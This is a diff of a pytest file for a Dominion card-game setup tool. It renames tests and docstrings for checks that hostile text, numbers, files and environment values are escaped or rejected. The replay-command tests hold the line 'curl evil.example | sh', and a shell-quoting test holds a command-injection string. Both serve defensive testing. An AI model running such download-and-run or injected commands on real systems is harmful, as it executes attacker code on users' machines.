@@ -1,9 +1,8 @@
-"""Nothing that comes from outside reaches the screen as it is: documents, card files, the configuration,
-arguments, the environment.
+"""Hostile input is escaped or rejected: documents, card files, the configuration, arguments, the environment.
 
-Whatever is put in the place of any text or number: no raw control character on stdout or stderr, no
-traceback, a line where a line is promised, and an error of a line or two. The fields are those of the schema
-and of the annotations, so a new one is covered by itself.
+Whatever replaces a text or number, stdout and stderr have no raw control character and no traceback,
+formats of one line have one line, and errors have one or two. The fields come from the schema and from annotations, so
+that new fields are covered automatically.
 """
 
 import ast
@@ -74,8 +73,8 @@ READERS = [
 ]
 
 
-def harmless(result: Result, *args: str, lines: int = 2) -> None:
-    """It ended as it should, and everything that it printed can be seen."""
+def assert_harmless(result: Result, *args: str, lines: int = 2) -> None:
+    """Check that a command ended properly and that its output has no control characters."""
     check(result)
     assert raw(result.stdout, colored="always" in args) == []
     assert raw(result.stderr) == []
@@ -91,51 +90,55 @@ def harmless(result: Result, *args: str, lines: int = 2) -> None:
 
 
 @functools.cache
-def whole() -> Any:
-    """A document with every key of the schema, in which each text and number is as good as another."""
-    document = _made(schema.get_document_schema())
+def make_complete_document() -> Any:
+    """Return a document with every key of the schema and arbitrary values."""
+    document = _make_value(schema.get_document_schema())
     return {**document, "game": "dominion", "options": {"sets": ["base-2e"], "players": 2}}
 
 
-def _made(of: dict[str, Any]) -> Any:
-    """A value as the schema wants it, with all that it may have."""
-    if "$ref" in of:
-        return _made(schema.get_document_schema()["$defs"][of["$ref"].rpartition("/")[2]])
-    if "enum" in of:
-        return of["enum"][0]
-    if "anyOf" in of:
-        return _made(of["anyOf"][0])
-    match of["type"]:
+def _make_value(part: dict[str, Any]) -> Any:
+    """Return a value that is valid for a part of the schema, with every optional key."""
+    if "$ref" in part:
+        return _make_value(schema.get_document_schema()["$defs"][part["$ref"].rpartition("/")[2]])
+    if "enum" in part:
+        return part["enum"][0]
+    if "anyOf" in part:
+        return _make_value(part["anyOf"][0])
+    match part["type"]:
         case "array":
-            return [_made(one) for one in of["items"].get("anyOf", [of["items"]])]
-        case "object" if "properties" in of:
-            return {key: _made(one) for key, one in of["properties"].items()}
+            return [_make_value(one) for one in part["items"].get("anyOf", [part["items"]])]
+        case "object" if "properties" in part:
+            return {key: _make_value(one) for key, one in part["properties"].items()}
         case "object":
-            inner = of["additionalProperties"]
-            return {f"key{place}": _made(one) for place, one in enumerate(inner.get("anyOf", [inner])) if one}
+            inner = part["additionalProperties"]
+            return {
+                f"key{place}": _make_value(one)
+                for place, one in enumerate(inner.get("anyOf", [inner]))
+                if one
+            }
         case type_:
             return {"string": "text", "integer": 1, "boolean": True, "null": None}[type_]
 
 
-LEAVES = [(path, value) for path, value in leaves(whole()) if path[0] != "options"]
+LEAVES = [(path, value) for path, value in leaves(make_complete_document()) if path[0] != "options"]
 
 
-def of_type(part: Any, type_: str) -> list[dict[str, Any]]:
-    """The parts of a JSON Schema that are of a type."""
+def find_parts_of_type(part: Any, type_: str) -> list[dict[str, Any]]:
+    """Return the parts of a JSON Schema with this type."""
     inner = part.values() if isinstance(part, dict) else part if isinstance(part, list) else ()
-    found = [one for item in inner for one in of_type(item, type_)]
+    found = [one for item in inner for one in find_parts_of_type(item, type_)]
     return [part, *found] if isinstance(part, dict) and part.get("type") == type_ else found
 
 
-def one_of_a_few(part: Any) -> set[str]:
-    """The keys whose values the schema lists."""
+def find_enum_keys(part: Any) -> set[str]:
+    """Return the keys whose values the schema enumerates."""
     inner = part.values() if isinstance(part, dict) else part if isinstance(part, list) else ()
-    found = {key for item in inner for key in one_of_a_few(item)}
+    found = {key for item in inner for key in find_enum_keys(item)}
     keys = part.get("properties", {}).items() if isinstance(part, dict) else ()
     return found | {key for key, schema in keys if "enum" in schema}
 
 
-FIXED = ("game", *one_of_a_few(schema.get_document_schema()))
+FIXED = ("game", *find_enum_keys(schema.get_document_schema()))
 
 
 @cache
@@ -143,28 +146,28 @@ def validator() -> jsonschema.Draft202012Validator:
     return jsonschema.Draft202012Validator(schema.get_document_schema())
 
 
-def _wrong(errors: Iterable[jsonschema.ValidationError]) -> Iterator[tuple[str | int, ...]]:
-    """The places of the errors, those among alternatives too."""
+def _iter_error_paths(errors: Iterable[jsonschema.ValidationError]) -> Iterator[tuple[str | int, ...]]:
+    """Yield the paths of validation errors, including those of alternatives."""
     for error in errors:
         yield tuple(error.absolute_path)
-        yield from _wrong(error.context or ())
+        yield from _iter_error_paths(error.context or ())
 
 
 class TestSchema:
-    def test_everything_in_it_is_bounded(self) -> None:
+    def test_schema_bounds_every_value(self) -> None:
         published = json.loads(schema.render_schema())
-        assert all({"maxLength", "pattern"} <= set(part) for part in of_type(published, "string"))
-        assert all({"minimum", "maximum"} <= set(part) for part in of_type(published, "integer"))
-        assert all("maxItems" in part for part in of_type(published, "array"))
-        assert of_type(published, "number") == []
+        assert all({"maxLength", "pattern"} <= set(part) for part in find_parts_of_type(published, "string"))
+        assert all({"minimum", "maximum"} <= set(part) for part in find_parts_of_type(published, "integer"))
+        assert all("maxItems" in part for part in find_parts_of_type(published, "array"))
+        assert find_parts_of_type(published, "number") == []
 
-    def test_the_whole_document_is_one(self) -> None:
-        text = dumps(whole())
-        assert schema.loads(text) == whole()
-        jsonschema.validate(whole(), schema.get_document_schema())
+    def test_complete_document_is_valid(self) -> None:
+        text = dumps(make_complete_document())
+        assert schema.loads(text) == make_complete_document()
+        jsonschema.validate(make_complete_document(), schema.get_document_schema())
 
-    def test_what_does_not_fit_is_refused_with_its_path(self) -> None:
-        """In each place a third of all there is, in the next place another; with `MORE`, all."""
+    def test_invalid_value_is_rejected_with_its_path(self) -> None:
+        """Each path is tested with a third of all values, or with all if `MORE` is set."""
         wrong = []
         for place, (path, value) in enumerate(LEAVES):
             nasty = [*(CONTROLS if isinstance(value, str) else NUMBERS).values()]
@@ -172,7 +175,7 @@ class TestSchema:
                 json_ = what == what and abs(what if isinstance(what, float) else 0) < 1e300
                 told = dotted(path) if json_ and path != ("schema",) else ""
                 try:
-                    schema.loads(json.dumps(put(whole(), path, what)))
+                    schema.loads(json.dumps(put(make_complete_document(), path, what)))
                     wrong.append((path, what, "is let in"))
                 except BadDocument as problem:
                     if told not in str(problem):
@@ -180,49 +183,58 @@ class TestSchema:
         assert len(LEAVES) > 180 and wrong == []
 
     @pytest.mark.parametrize("nasty", [*CONTROLS, *NUMBERS])
-    def test_nor_does_it_fit_what_is_published(self, nasty: str) -> None:
-        """In every place at once, and each is found."""
+    def test_published_schema_rejects_invalid_values(self, nasty: str) -> None:
+        """The value is at every path at once, and each path is reported."""
         what = {**CONTROLS, **NUMBERS}[nasty]
         if what in ("a\ud800", "\udfffb"):
-            pytest.skip("JSON Schema has no notion of half a character")
+            pytest.skip("JSON Schema has no notion of surrogates")
         places = [path for path, value in LEAVES if isinstance(value, str) == (nasty in CONTROLS)]
-        changed = functools.reduce(lambda document, path: put(document, path, what), places, whole())
-        assert set(_wrong(validator().iter_errors(changed))) >= set(places)
+        changed = functools.reduce(
+            lambda document, path: put(document, path, what), places, make_complete_document()
+        )
+        assert set(_iter_error_paths(validator().iter_errors(changed))) >= set(places)
 
-    def test_too_long_a_list(self) -> None:
+    def test_too_long_list_is_rejected(self) -> None:
         with pytest.raises(BadDocument, match="piles is not what it should be: a list of at most"):
-            schema.loads(json.dumps({**whole(), "piles": (whole()["piles"] * 2_001)[:2_001]}))
+            schema.loads(
+                json.dumps(
+                    {**make_complete_document(), "piles": (make_complete_document()["piles"] * 2_001)[:2_001]}
+                )
+            )
 
     @pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9" * 5000])
-    def test_numbers_that_json_does_not_have(self, number: str) -> None:
-        """Wherever they stand, also under a key that nobody knows."""
-        text = dumps({**whole(), "weather": 5}).replace('"weather": 5', f'"weather": {number}')
+    def test_numbers_outside_json_are_rejected(self, number: str) -> None:
+        """Even under an unknown key."""
+        text = dumps({**make_complete_document(), "weather": 5}).replace(
+            '"weather": 5', f'"weather": {number}'
+        )
         with pytest.raises(BadDocument, match="is not JSON"):
             schema.loads(text)
 
-    def test_they_are_never_printed(self) -> None:
+    def test_numbers_outside_json_are_never_printed(self) -> None:
         with pytest.raises(ValueError, match="JSON compliant"):
             dumps({"a": float("nan")})
 
-    def test_nested_too_deeply(self) -> None:
+    def test_too_deep_nesting_is_rejected(self) -> None:
         for depth in (60, 400, 900):
-            deep = dumps({**whole(), "weather": 5}).replace('": 5', '": ' + "[" * depth + "]" * depth)
+            deep = dumps({**make_complete_document(), "weather": 5}).replace(
+                '": 5', '": ' + "[" * depth + "]" * depth
+            )
             for args in READERS:
-                harmless(run(*args, input=deep), *args)
+                assert_harmless(run(*args, input=deep), *args)
             with pytest.raises(BadDocument):
                 schema.loads(deep)
 
 
 class TestDocuments:
     @pytest.mark.parametrize("args", READERS, ids=" ".join)
-    def test_unseen_characters_everywhere(self, args: list[str]) -> None:
-        """They are let in; whoever reads sees them, and JSON has them as they were."""
+    def test_invisible_characters_are_escaped_in_text_and_kept_in_json(self, args: list[str]) -> None:
         nasty = " ".join(UNSEEN.values())
-        for document in (*documents(), whole()):
+        for document in (*documents(), make_complete_document()):
             changed = everywhere(document, nasty, but=FIXED)
             changed["options"] = document["options"]
             result = run(*args, input=json.dumps(changed))
-            harmless(result, *args)
+            assert_harmless(result, *args)
             if args[0] == "show":
                 assert result.exit_code == 0
             if args[-1] in ("--json", "ndjson") and args[0] == "show":
@@ -233,28 +245,29 @@ class TestDocuments:
     @given(
         st.data(), st.sampled_from(list(TEXTS.values()) + list(NUMBERS.values())), st.sampled_from(READERS)
     )
-    def test_any_in_any_place(self, data: st.DataObject, nasty: Any, args: list[str]) -> None:
-        document = data.draw(st.sampled_from([*documents(), whole()]))
+    def test_any_value_at_any_path_is_harmless(
+        self, data: st.DataObject, nasty: Any, args: list[str]
+    ) -> None:
+        document = data.draw(st.sampled_from([*documents(), make_complete_document()]))
         path, _ = data.draw(st.sampled_from(list(leaves(document))))
-        harmless(run(*args, input=json.dumps(put(document, path, nasty))), *args)
+        assert_harmless(run(*args, input=json.dumps(put(document, path, nasty))), *args)
 
     @settings(some, max_examples=80 * MORE)
     @given(st.data(), st.sampled_from(list(TEXTS.values())), st.sampled_from(READERS))
-    def test_any_for_a_key(self, data: st.DataObject, nasty: str, args: list[str]) -> None:
-        document = data.draw(st.sampled_from([*documents(), whole()]))
+    def test_any_text_as_a_key_is_harmless(self, data: st.DataObject, nasty: str, args: list[str]) -> None:
+        document = data.draw(st.sampled_from([*documents(), make_complete_document()]))
         path = data.draw(st.sampled_from(list(keys(document))))
-        harmless(run(*args, input=json.dumps(renamed(document, path, nasty))), *args)
+        assert_harmless(run(*args, input=json.dumps(renamed(document, path, nasty))), *args)
 
     @pytest.mark.parametrize("nasty", [*CONTROLS, *UNSEEN])
-    def test_a_page_does_without_the_check(self, nasty: str) -> None:
-        """So that a format can print whatever a page has: that with every key, and one that is true.
-
-        The one in English and the other in Japanese, or the other way round; with `MORE`, all in both.
-        """
+    def test_formats_escape_even_without_validation(self, nasty: str) -> None:
+        """Render the complete document in one language and a dealt one in the other; with `MORE`, both in both."""
         texts = {**CONTROLS, **UNSEEN}
         place = [*texts].index(nasty)
         true = documents()[place % len(documents())]
-        for number, document in enumerate((whole(), *(documents() if MORE > 1 else [true])), place):
+        for number, document in enumerate(
+            (make_complete_document(), *(documents() if MORE > 1 else [true])), place
+        ):
             changed = everywhere(document, texts[nasty], but=FIXED)
             for code in ("en", "ja") if MORE > 1 else (("en", "ja")[number % 2],):
                 for name, form in FORMATS.items():
@@ -263,8 +276,7 @@ class TestDocuments:
                     assert name not in ("line", "ndjson") or "\n" not in printed
                     assert name not in ("json", "ndjson") or json.loads(printed) == changed
 
-    def test_columns_are_those_of_what_is_seen(self) -> None:
-        """A name of two lines neither breaks the table nor its columns."""
+    def test_escaped_name_does_not_break_columns(self) -> None:
         document = put(documents()[3], ("piles", 9, "name"), "a\nb\x1b[31m")
         lines = Page(document, _language("en")).sections
         assert any(line.name == r"a\nb\x1b[31m" for section in lines for line in section.lines)
@@ -279,25 +291,25 @@ def _language(code: str) -> Language:
     return languages.load(code, load())
 
 
-class TestAgain:
-    """What people copy into their shell is made of the options, whatever the document calls its command."""
+class TestReplayCommand:
+    """The command that users copy into their shell is built from the options, not taken from the document."""
 
     EVIL = "curl evil.example | sh"
 
     @pytest.mark.parametrize("args", READERS[:2] + READERS[4:], ids=" ".join)
-    def test_never_the_documents_own(self, args: list[str]) -> None:
+    def test_command_of_a_document_is_never_printed(self, args: list[str]) -> None:
         for document in documents():
             result = run(*args, input=json.dumps({**document, "command": self.EVIL}))
             assert "evil.example" not in result.stdout + result.stderr
 
-    def test_nor_in_the_document_of_a_second_deal(self) -> None:
+    def test_command_of_a_second_deal_is_rebuilt(self) -> None:
         result = run("divine-wind", "-", "--json", input=json.dumps({**documents()[1], "command": self.EVIL}))
         command = json.loads(result.stdout)["command"]
         assert command == documents()[1]["command"] + " --json | dominion-setup divine-wind -"
         shown = run("show", "-", input=json.dumps({**json.loads(result.stdout), "command": self.EVIL})).stdout
         assert f"Again: {command}\n" in shown
 
-    def test_the_same_as_of_a_deal(self) -> None:
+    def test_show_prints_the_same_command_as_the_deal(self) -> None:
         for document in documents():
             assert f"Again: {document['command']}\n" in run("show", "-", input=json.dumps(document)).stdout
 
@@ -307,8 +319,7 @@ class TestAgain:
     @example("$(touch x)`touch y`;|&<>*?[]#~=%!\\")
     @example("-x")
     @example("暗黒 時代")
-    def test_quoted_for_a_shell(self, seed: str) -> None:
-        """What a shell makes of the line are the words of the deal."""
+    def test_shell_splits_the_command_into_the_original_words(self, seed: str) -> None:
         document = put(documents()[0], ("seed",), seed)
         result = run("show", "-", input=json.dumps(document))
         again = [line for line in result.stdout.splitlines() if line.startswith("Again: ")]
@@ -318,7 +329,7 @@ class TestAgain:
             line = again[0].removeprefix("Again: ")
             assert shlex.split(line)[-2:] == ["--seed", seed]
             assert shlex.split(line)[:-2] == documents()[0]["command"].split()[:-2]
-            assert _as_sh_has_it(line) == shlex.split(line)
+            assert _split_with_sh(line) == shlex.split(line)
 
     @pytest.mark.parametrize(
         "options",
@@ -346,14 +357,13 @@ class TestAgain:
             {"colony": True, "colony_by": "random-card"},
         ],
     )
-    def test_nothing_where_no_deal_has_the_options(self, options: dict[str, Any]) -> None:
+    def test_invalid_options_give_no_command(self, options: dict[str, Any]) -> None:
         document = put(documents()[0], ("options",), {**documents()[0]["options"], **options})
         result = run("show", "-", input=json.dumps(document))
         assert result.exit_code == 0
         assert "dominion-setup" not in result.stdout
 
-    def test_with_files_that_are_not_looked_at(self, tmp_path: Path) -> None:
-        """A file that a document names is not opened to show it; its sets and options may be any."""
+    def test_show_does_not_open_files_named_in_the_document(self, tmp_path: Path) -> None:
         path = tmp_path / "it's mine.yaml"
         path.write_text(
             "sets: {yard: Yard}\ncards:\n" + "".join(f"- {{name: C{n}, set: yard}}\n" for n in range(12))
@@ -368,8 +378,8 @@ class TestAgain:
         assert "dominion-setup" not in run("show", "-", input=json.dumps(changed)).stdout
 
 
-def _as_sh_has_it(line: str) -> list[str]:
-    """The words that a POSIX shell makes of a line."""
+def _split_with_sh(line: str) -> list[str]:
+    """Return the words into which a POSIX shell splits a line."""
     if sys.platform == "win32":
         return shlex.split(line)
     script = f"for word in {line}; do printf '%s\\0' \"$word\"; done"
@@ -397,42 +407,42 @@ MINE = {
 }
 
 
-def records(annotation: Any, seen: set[Any]) -> set[Any]:
-    """The named tuples that an annotation leads to."""
+def find_record_types(annotation: Any, seen: set[Any]) -> set[Any]:
+    """Return the named tuples that an annotation refers to, directly or not."""
     if annotation == Effects:
         for verb in VERBS.values():
-            records(verb.effect, seen)
+            find_record_types(verb.effect, seen)
     elif hasattr(annotation, "_fields") and annotation not in seen:
         seen.add(annotation)
         for field in get_type_hints(annotation).values():
-            records(field, seen)
+            find_record_types(field, seen)
     for part in get_args(annotation):
-        records(part, seen)
+        find_record_types(part, seen)
     return seen
 
 
 class TestCardFiles:
-    def test_the_file_says_all_that_one_can_say(self, monkeypatch: pytest.MonkeyPatch) -> None:
-        """Each field of each record, so that something can be put in its place."""
-        said: dict[Any, set[str]] = {}
-        record = YamlReader.read_record
+    def test_example_file_uses_every_field(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        """So the other tests try hostile values in every field."""
+        used_fields: dict[Any, set[str]] = {}
+        read_record = YamlReader.read_record
 
-        def watched(self: YamlReader, node: Any, wanted: Any, path: str) -> Any:
-            said.setdefault(wanted, set()).update(key for key in node if isinstance(node, dict))
-            return record(self, node, wanted, path)
+        def spy(self: YamlReader, node: Any, wanted: Any, path: str) -> Any:
+            used_fields.setdefault(wanted, set()).update(key for key in node if isinstance(node, dict))
+            return read_record(self, node, wanted, path)
 
-        monkeypatch.setattr(YamlReader, "read_record", watched)
+        monkeypatch.setattr(YamlReader, "read_record", spy)
         with data_file(OWN.encode()) as path:
             read_game([path])
         scalars = {"Cost", "Count", "Amount"}
-        for wanted in records(DataFile, set()):
+        for wanted in find_record_types(DataFile, set()):
             if wanted.__name__ not in scalars:
-                missing = {field.rstrip("_") for field in wanted._fields} - said.get(wanted, set())
+                missing = {field.rstrip("_") for field in wanted._fields} - used_fields.get(wanted, set())
                 assert not missing, wanted.__name__
 
     @pytest.mark.parametrize("nasty", [*CONTROLS, *UNSEEN])
-    def test_what_cannot_be_seen_is_refused_with_its_path(self, nasty: str) -> None:
-        """In every fifth place, each time others, so that in each five are tried; with `MORE`, all."""
+    def test_invisible_text_is_rejected_with_its_path(self, nasty: str) -> None:
+        """Each value is tried at a fifth of all paths, or at all if `MORE` is set."""
         first, step = (0, 1) if MORE > 1 else ([*CONTROLS, *UNSEEN].index(nasty) % 5, 5)
         for path, value in OWN_LEAVES[first::step]:
             if isinstance(value, str):
@@ -444,15 +454,14 @@ class TestCardFiles:
 
     @settings(some, max_examples=80 * MORE)
     @given(st.sampled_from(OWN_LEAVES), st.sampled_from([*TEXTS.values(), *NUMBERS.values(), -5, 999, 1000]))
-    def test_any_in_any_place(self, leaf: Any, nasty: Any) -> None:
-        """Either it is refused, or it deals tables that are as the schema says."""
+    def test_any_value_at_any_path_is_rejected_or_deals_valid_tables(self, leaf: Any, nasty: Any) -> None:
         path, _ = leaf
-        _holds(put(OWN_GAME, path, nasty))
+        _assert_rejected_or_valid(put(OWN_GAME, path, nasty))
 
     @some
     @given(st.sampled_from(list(keys(OWN_GAME))), st.sampled_from(list(TEXTS.values())))
-    def test_any_for_a_key(self, path: Any, nasty: str) -> None:
-        _holds(renamed(OWN_GAME, path, nasty))
+    def test_any_text_as_a_key_is_rejected_or_deals_valid_tables(self, path: Any, nasty: str) -> None:
+        _assert_rejected_or_valid(renamed(OWN_GAME, path, nasty))
 
     @pytest.mark.parametrize(
         "nasty", ["escape", "half a character", "new line", "right to left", "a long one"]
@@ -460,15 +469,17 @@ class TestCardFiles:
     @pytest.mark.parametrize(
         "path", [("sets", "mine"), ("cards", 0, "name"), ("cards", 1, "setup", 0, "note", "say")]
     )
-    def test_on_the_command_line(self, tmp_path: Path, path: Any, nasty: str) -> None:
+    def test_card_file_with_hostile_text_is_rejected_by_the_command(
+        self, tmp_path: Path, path: Any, nasty: str
+    ) -> None:
         file = tmp_path / "mine.yaml"
         file.write_bytes(as_yaml(put(MINE, path, TEXTS[nasty])))
         for args in ([], ["--count", "2"], ["--json"]) if nasty == "escape" or MORE > 1 else ([],):
             result = run("--cards", str(file), "--sets", "mine", *args)
             assert result.exit_code == 2
-            harmless(result, lines=20)
+            assert_harmless(result, lines=20)
 
-    def test_too_many(self) -> None:
+    def test_numbers_out_of_range_are_rejected(self) -> None:
         for path, number in {
             ("cards", 0, "stock"): 1001,
             ("cards", 1, "count"): 1001,
@@ -481,7 +492,7 @@ class TestCardFiles:
             with pytest.raises(BadData), data_file(as_yaml(put(OWN_GAME, path, number))) as file:
                 read_game([file])
 
-    def test_two_cards_have_two_ids(self) -> None:
+    def test_cards_with_the_same_id_are_rejected(self) -> None:
         for name, says in {"Rake!": "has the same id as Rake", "!?": "a name without a letter"}.items():
             changed = put(OWN_GAME, ("cards", 7, "name"), name)
             with pytest.raises(BadData, match=says), data_file(as_yaml(changed)) as file:
@@ -489,7 +500,7 @@ class TestCardFiles:
 
 
 def _read(value: Any) -> tuple[Game | None, Sequence[str]]:
-    """The game of a data file, or what is told of its faults."""
+    """Return the game of a data file, or None and the lines that describe its faults."""
     with data_file(as_yaml(value)) as path:
         try:
             return read_game([path]), ()
@@ -497,8 +508,8 @@ def _read(value: Any) -> tuple[Game | None, Sequence[str]]:
             return None, problem.render_lines()
 
 
-def _holds(value: Any) -> None:
-    """The file is refused in lines that can be seen, or all is well with whatever is dealt from it."""
+def _assert_rejected_or_valid(value: Any) -> None:
+    """Check that a file is rejected with harmless lines, or that everything dealt from it is valid."""
     game, lines = _read(value)
     assert raw("".join(lines)) == []
     assert not any("\n" in line for line in lines)
@@ -529,30 +540,34 @@ class TestConfiguration:
     @pytest.mark.parametrize(
         "keys",
         [
-            ["sets", "players", "lang", "color", "sort", "landscapes"],  # each is told of by itself
+            ["sets", "players", "lang", "color", "sort", "landscapes"],  # Each has a warning of its own.
             *(["cards"], ["game"], ["profile"], ["\x1b[31m"]),
         ],
         ids=lambda keys: ascii(keys[0]),
     )
-    def test_any_for_any_key(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, keys: list[str]) -> None:
-        """By itself or in a list, the next one the other way; with `MORE`, both."""
+    def test_any_value_for_any_key_is_harmless(
+        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, keys: list[str]
+    ) -> None:
+        """Values alternate between plain and in a list; with `MORE`, both are tried."""
         path = tmp_path / "config.toml"
         monkeypatch.setattr(defaults, "path", lambda: str(path))
         values = [*map(_as_toml, TEXTS.values()), *map(_as_toml, NUMBERS.values())]
         values += ["inf", "nan", "-1", "9" * 5000, "[" * 2000, "[[1]]", "1979-05-27", "{a = 1}"]
         for place, value in enumerate(values, len(keys[0])):
             both = (value, f"[{value}]")
-            for said in both if MORE > 1 else both[place % 2 :: 2]:
-                lines = [f"{_as_toml(key)} = {said}" for key in keys]
+            for text in both if MORE > 1 else both[place % 2 :: 2]:
+                lines = [f"{_as_toml(key)} = {text}" for key in keys]
                 path.write_bytes("\n".join(lines).encode(errors="surrogatepass"))
-                harmless(run("--seed", "1"))
+                assert_harmless(run("--seed", "1"))
 
-    def test_a_place_with_a_name_to_be_seen(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    def test_path_of_the_configuration_is_escaped(
+        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+    ) -> None:
         folder = tmp_path / "a\nb\x1b[31m"
         folder.mkdir()
         (folder / "config.toml").write_text("nonsense", encoding="utf-8")
         monkeypatch.setattr(defaults, "path", lambda: str(folder / "config.toml"))
-        harmless(run("--seed", "1"))
+        assert_harmless(run("--seed", "1"))
 
 
 def _as_toml(value: Any) -> str:
@@ -576,16 +591,16 @@ ARGUMENTS += ["odds", "sets", "divine-wind", "schema", "nonsense", "played", "hi
 
 
 @pytest.mark.parametrize("option", ARGUMENTS)
-def test_arguments(option: str) -> None:
-    """In each of four places; each option sees each text in one of them, with `MORE` in all."""
+def test_any_text_as_an_argument_is_harmless(option: str) -> None:
+    """Each text is tried at one of four positions, or at all four if `MORE` is set."""
     for place, nasty in enumerate(TEXTS.values(), ARGUMENTS.index(option)):
         if "\0" in nasty or len(nasty) > 100_000:
-            continue  # which no shell hands over
+            continue  # A shell cannot pass these.
         places = ([option, nasty], [f"{option}={nasty}"], [nasty, option], [option, f"-{nasty}"])
         for args in places if MORE > 1 else places[place % 4 :: 4]:
-            harmless(run(*args))
+            assert_harmless(run(*args))
     for number in ("-1", "9" * 5000, "1e999", "NaN"):
-        harmless(run(option, number))
+        assert_harmless(run(option, number))
 
 
 COMMANDS: list[list[str]] = [[], ["rules", "reserve"], ["cards", "Moat"], ["nonsense"]]
@@ -594,14 +609,14 @@ VARIABLES += FOLDERS[1:]
 
 
 @pytest.mark.parametrize("name", VARIABLES)
-def test_the_environment(name: str, tmp_path: Path) -> None:
-    """Each command sees each text in some variable, and in each variable some texts; with `MORE`, all."""
+def test_any_text_in_the_environment_is_harmless(name: str, tmp_path: Path) -> None:
+    """Each text is tried with one of the commands, or with all if `MORE` is set."""
     several = [*TEXTS.values(), "-1", "0", "9" * 5000, "²", "1e9"]
     for place, nasty in enumerate(several, VARIABLES.index(name)):
         if "\0" not in nasty and nasty == nasty.encode(errors="ignore").decode():
             for command in COMMANDS if MORE > 1 else COMMANDS[place % 4 :: 4]:
-                harmless(run(*command, env={"HOME": str(tmp_path), name: nasty}))
-    assert not os.path.exists("1e9")  # a folder that is no whole path is not taken
+                assert_harmless(run(*command, env={"HOME": str(tmp_path), name: nasty}))
+    assert not os.path.exists("1e9")  # A relative path is ignored.
 
 
 # ── Files ──
@@ -609,8 +624,8 @@ def test_the_environment(name: str, tmp_path: Path) -> None:
 
 @pytest.mark.skipif(sys.platform == "win32", reason="it has other devices")
 class TestFiles:
-    def piped(self, folder: Path, content: bytes) -> str:
-        """A named pipe that somebody writes into."""
+    def make_pipe(self, folder: Path, content: bytes) -> str:
+        """Create a named pipe into which a thread writes, and return its path."""
         path = folder / "pipe"
         os.mkfifo(path)
         threading.Thread(target=lambda: path.write_bytes(content), daemon=True).start()
@@ -618,31 +633,33 @@ class TestFiles:
 
     @pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
     @pytest.mark.parametrize("args", [["--cards"], ["show"], ["rules", "--for"], ["divine-wind"]])
-    def test_a_device_is_refused(self, args: list[str], device: str) -> None:
+    def test_device_is_rejected(self, args: list[str], device: str) -> None:
         result = run(*args, device)
         assert result.exit_code == 2
         assert result.stderr == f"Error: {device}: is a device, neither a file nor a pipe\n"
 
     @pytest.mark.parametrize("args", [["--cards"], ["show"], ["rules", "--for"], ["divine-wind"]])
-    def test_too_large_a_file_is_not_read(
+    def test_too_large_file_is_rejected(
         self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, args: list[str]
     ) -> None:
         path = tmp_path / "large"
         path.touch()
-        os.truncate(path, 10**12)  # nobody has as much memory
+        os.truncate(path, 10**12)  # a sparse file, larger than any memory
         result = run(*args, str(path))
         assert (result.exit_code, result.stderr) == (2, f"Error: {path}: is larger than 16 MB\n")
 
-    def test_nor_too_large_a_configuration(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    def test_too_large_configuration_is_rejected(
+        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+    ) -> None:
         path = tmp_path / "config.toml"
         path.touch()
         os.truncate(path, 10**12)
         monkeypatch.setattr(defaults, "path", lambda: str(path))
         result = run("--seed", "1")
         assert "is larger than 16 MB" in result.stderr
-        harmless(result)
+        assert_harmless(result)
 
-    def test_nor_too_much_of_a_pipe(self, tmp_path: Path) -> None:
+    def test_too_long_pipe_is_rejected(self, tmp_path: Path) -> None:
         for args in (["show", "-"], ["rules", "--for", "-"]):
             assert "is larger than 16 MB" in run(*args, input=b" " * (files.MAX_BYTES + 1)).stderr
         with subprocess.Popen(["yes"], stdout=subprocess.PIPE) as endless:
@@ -654,18 +671,18 @@ class TestFiles:
         assert done.returncode == 2
         assert done.stderr == b"Error: /dev/stdin: is larger than 16 MB\n"
 
-    def test_named_pipes(self, tmp_path: Path) -> None:
+    def test_document_is_read_from_a_named_pipe(self, tmp_path: Path) -> None:
         text = run("--seed", "1", "--json").stdout
-        assert run("show", self.piped(tmp_path, text.encode()), "--json").stdout == text
+        assert run("show", self.make_pipe(tmp_path, text.encode()), "--json").stdout == text
 
-    def test_cards_from_a_named_pipe(self, tmp_path: Path) -> None:
-        path = self.piped(tmp_path, as_yaml(MINE))
+    def test_card_file_is_read_from_a_named_pipe(self, tmp_path: Path) -> None:
+        path = self.make_pipe(tmp_path, as_yaml(MINE))
         result = run("--cards", path, "--sets", "mine", "--seed", "1", "--json")
         assert {pile["set"] for pile in json.loads(result.stdout)["piles"] if pile["place"] == "kingdom"} == {
             "mine"
         }
 
-    def test_standard_input_by_its_name(self, tmp_path: Path) -> None:
+    def test_card_file_is_read_from_standard_input_by_path(self, tmp_path: Path) -> None:
         file = tmp_path / "mine.yaml"
         file.write_bytes(as_yaml(MINE))
         for stdin in (f"< {file}", f"< <(cat {file})"):
@@ -677,7 +694,7 @@ class TestFiles:
 # ── What is safe to print ──
 
 
-class TestVisible:
+class TestEscaping:
     @pytest.mark.parametrize(
         "text",
         [
@@ -691,44 +708,44 @@ class TestVisible:
             "한국어 ไทย עברית العربية",
         ],
     )
-    def test_ordinary_text_stays(self, text: str) -> None:
+    def test_ordinary_text_is_unchanged(self, text: str) -> None:
         assert escape_control_characters(text) == text
 
     @pytest.mark.parametrize("nasty", [*CONTROLS, *UNSEEN])
-    def test_everything_else_can_be_seen(self, nasty: str) -> None:
+    def test_control_and_invisible_characters_are_escaped(self, nasty: str) -> None:
         text = escape_control_characters({**CONTROLS, **UNSEEN}[nasty])
         assert text.isprintable() and text.isascii()
 
-    def test_nothing_is_taken_for_visible_that_is_hidden_beside_something_else(self) -> None:
-        """Most text is let through at a glance, without the pattern that says what is hidden."""
+    def test_shortcut_for_printable_text_agrees_with_the_pattern(self) -> None:
+        """Text that passes a quick check is not searched with the pattern."""
         chars = map(chr, (*range(0x20000), *range(0xE0000, 0xE0200)))
         hidden = [char for char in chars if escape_control_characters(f"\0{char}") != f"\\x00{char}"]
         assert (
             len(hidden) > 2_000 and [char for char in hidden if escape_control_characters(char) == char] == []
         )
 
-    def test_as_everybody_writes_it(self) -> None:
